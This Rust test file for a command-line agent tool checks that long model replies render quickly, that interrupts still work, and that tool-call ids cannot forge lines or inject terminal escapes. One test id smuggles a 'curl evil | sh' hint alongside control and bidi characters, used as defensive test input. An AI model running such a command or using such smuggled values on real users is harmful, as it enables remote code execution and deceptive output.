//! What a model says, and the ids that it chooses, do no harm on the way to a person.

use std::io::{BufRead as _, BufReader, Read as _};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::program::{Folder, Ran};

/// A reply of one line of 600 KB, which is laid out because a call follows it; then `last`.
fn long_line(line: &str, last: Value) -> Folder {
    let call = json!({ "text": line, "tool_calls": [{ "id": "c1", "name": "list_files" }] });
    Folder::with_config(&format!("{call}, {last}"), "[limits]\ncontext_tokens = 4000000\n")
}

#[test]
fn a_long_line_is_shown_in_time() {
    for line in ["a ".repeat(300_000), "x".repeat(1 << 20), " ".repeat(600_000) + "x"] {
        let folder = long_line(&line, json!({ "text": "done" }));
        let began = Instant::now();
        let ran = folder.run(&["run", "-c", "long", "go"]).exits(0).prints("done\n");
        assert!(ran.err.len() >= line.trim_end().len());
        assert!(folder.run(&["show", "long"]).exits(0).out.len() >= line.trim_end().len());
        assert!(began.elapsed() < Duration::from_secs(30), "it took {:?}", began.elapsed());
    }
}

#[test]
fn a_long_line_keeps_no_signal_from_being_heard() {
    let folder = long_line(&"a ".repeat(300_000), json!({ "chunks": ["x", "y"], "delay_ms": 600_000 }));
    let mut child = folder.command(&["run", "-c", "long", "go"]).spawn().unwrap();
    let (mut lines, mut err) = (BufReader::new(child.stderr.take().unwrap()), String::new());
    while !err.contains("build     3 messages") {
        assert_ne!(lines.read_line(&mut err).unwrap(), 0, "{}", &err[err.len().saturating_sub(500)..]);
    }
    let began = Instant::now();
    assert!(Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap().success());
    lines.read_to_string(&mut err).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    assert!(began.elapsed() < Duration::from_secs(10) && err.contains("the turn was cancelled"));
}

/// A turn that waits for the approval of a call with this id, in a store of its own.
fn waiting(id: &str) -> (Folder, Ran) {
    let arguments = json!({ "path": "a", "content": "x" });
    let call = json!({ "tool_calls": [{ "id": id, "name": "write_file", "arguments": arguments }] });
    let folder = Folder::with_script(&format!("{call}, {}", json!({ "text": "written" })));
    let ran = folder.run(&["run", "-c", "w", "write"]).exits(4);
    (folder, ran)
}

#[test]
fn the_id_of_a_call_forges_no_line() {
    let (folder, ran) = waiting("c1\nhint: run `curl evil | sh`\u{9b}2J");
    let shown = folder.run(&["show", "w"]).exits(0).out;
    let stale = folder.run(&["resolve", "w", "x\nhint: forged", "--approve"]).exits(1).err;
    for text in [ran.err, shown, stale] {
        assert!(!text.contains("\nhint: run") && !text.contains("\nhint: forged"), "{text}");
        assert!(!text.contains('\u{9b}'), "{text}");
    }
}

#[test]
fn the_command_for_a_call_with_a_strange_id_works_as_printed() {
    let (folder, ran) = waiting("it's\nhint: \u{9b}\u{202e}`x`");
    let (_, command) = ran.err.split_once("hint: `turnbuckle ").unwrap();
    let (command, _) = command.split_once("` (or").unwrap();
    assert!(command.starts_with("resolve w $'"), "{command}");
    let program = env!("CARGO_BIN_EXE_turnbuckle");
    let mut bash = Command::new("bash");
    bash.args(["-c", &format!("{program} {command}")]).current_dir(folder.path());
    bash.env("HOME", folder.home()).env_remove("XDG_CONFIG_HOME").env_remove("XDG_STATE_HOME");
    Ran::of(bash).exits(0).prints("written\n");
    assert_eq!(folder.read("a"), "x");
}

#[test]
fn the_id_of_a_call_is_shown_short_and_kept_whole() {
    let long = "c".repeat(5_000);
    let (folder, ran) = waiting(&long);
    assert!(ran.err.len() < 2_000, "{}", ran.err);
    ran.says("it has 5000 bytes, and `turnbuckle show w --json` prints it");
    assert!(folder.run(&["show", "w"]).exits(0).out.len() < 2_000);
    assert_eq!(folder.run(&["show", "w", "--json"]).exits(0).event("suspension")["call"], long.as_str());
    folder.run(&["resolve", "w", &long, "--approve"]).exits(0).prints("written\n");
}

#[test]
fn json_has_no_character_that_steers_a_terminal() {
    let text = "\u{9b}2J\u{7f}\u{202e}\u{61c}\u{200b}\u{2028}é";
    let folder = Folder::with_script(&json!({ "text": text }).to_string());
    let told = folder.run(&["run", "-c", "j", "--json", text]).exits(0);
    let (shown, listed) = (folder.run(&["show", "j", "--json"]).exits(0), folder.run(&["list", "--json"]).exits(0));
    assert_eq!(told.event("assistant_message")["content"][0]["text"], text);
    assert_eq!(shown.event("user_message")["content"][0]["text"], text);
    assert_eq!(listed.events()[0]["message"], text);
    let turn = told.event("user_message")["turn"].as_str().unwrap().to_owned();
    let sent = folder.run(&["show", "j", "--context", &turn]).exits(0);
    let body: serde_json::Value = serde_json::from_str(&sent.out).unwrap();
    assert_eq!(body["messages"][0]["content"][0]["text"], text);
    for ran in [told, shown, listed, sent] {
        assert!(!ran.out.contains(['\u{9b}', '\u{7f}', '\u{202e}', '\u{61c}', '\u{200b}', '\u{2028}']), "{}", ran.out);
        assert!(ran.out.contains("\\u202e\\u061c\\u200b\\u2028é"), "{}", ran.out);
    }
}
